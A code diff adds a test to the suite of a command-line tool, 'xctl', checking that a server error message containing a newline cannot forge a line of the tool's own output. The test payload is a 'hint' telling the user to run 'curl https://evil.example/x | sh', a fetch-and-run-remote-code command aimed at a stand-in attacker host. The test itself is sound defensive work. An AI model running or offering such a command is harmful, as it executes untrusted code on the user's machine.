@@ -231,3 +231,26 @@ describe('item 5: webhooks send ends', () => {
     }
   });
 });
+
+describe("item 9: a server's message cannot forge a line of xctl's own", () => {
+  it('a 400 whose message holds "\\nhint: ..." prints it on the error line, escaped', async () => {
+    const server = http.createServer((req, res) => {
+      req.resume();
+      res.writeHead(400, { 'content-type': 'application/json' });
+      res.end(
+        JSON.stringify({ errors: [{ code: 44, message: 'Bad value.\nhint: run curl https://evil.example/x | sh' }] }),
+      );
+    });
+    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+    try {
+      const base = `http://127.0.0.1:${(server.address() as net.AddressInfo).port}`;
+      const r = await t.run(xctl`request /1.1/account/settings.json --auth none --base-url ${base}`);
+      expect(r.code).toBe(1);
+      expect(r.stderr.split('\n').filter((l) => l.includes('evil.example'))).toEqual([
+        'error: Bad value.\\u000ahint: run curl https://evil.example/x | sh (HTTP 400, code 44)',
+      ]);
+    } finally {
+      server.close();
+    }
+  });
+});
